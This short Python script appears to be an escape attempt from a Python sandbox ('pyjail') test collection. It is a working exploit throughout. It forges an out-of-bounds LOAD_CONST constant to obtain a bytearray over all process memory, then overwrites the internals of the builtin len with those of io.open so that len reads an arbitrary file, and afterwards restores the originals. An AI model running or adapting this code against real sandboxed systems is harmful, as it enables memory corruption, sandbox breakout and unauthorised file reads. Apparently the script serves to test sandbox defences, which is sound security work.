# Tries: bytecode whose constant lies outside of its table: a forged bytearray over all of memory, with which `len`
# becomes `open`; neither ctypes nor an import of anything is used for it.
# Origin: CPython's bytecode is not verified; LOAD_CONST out of bounds in pyjail collections.

import io
from dis import opmap
from struct import pack, unpack_from


def forge(address):
    """The object at an address, as a constant of a function that has none."""
    constants = ()
    cell = pack("<Q", address)
    index = (id(cell) + bytes.__basicsize__ - 1 - (id(constants) + tuple.__basicsize__)) // 8 & 0xFFFFFFFF
    code = bytearray()
    for shift in (24, 16, 8):
        code += bytes([opmap["EXTENDED_ARG"], index >> shift & 255])
    code += bytes([opmap["LOAD_CONST"], index & 255, opmap["RETURN_VALUE"], 0])
    made = lambda: 0
    start = bytes(made.__code__.co_code[:2]) if "RESUME" in opmap else b""
    made.__code__ = made.__code__.replace(co_code=start + bytes(code), co_consts=constants)
    return made()


whole = pack("<QQQQQQQ", 1 << 20, id(bytearray), 2**62, 2**62, 0, 0, 0)
memory = forge(id(whole) + bytes.__basicsize__ - 1)
source, target = id(io.open), id(len)
fields = (16, 24, 48)  # the method's table, its self, its vectorcall
before = [bytes(memory[target + at : target + at + 8]) for at in fields]
try:
    for at in fields:
        memory[target + at : target + at + 8] = memory[source + at : source + at + 8]
    found = len(input["file"]).read()
finally:
    for at, held in zip(fields, before):
        memory[target + at : target + at + 8] = held
[found, unpack_from("<Q", whole)[0]]
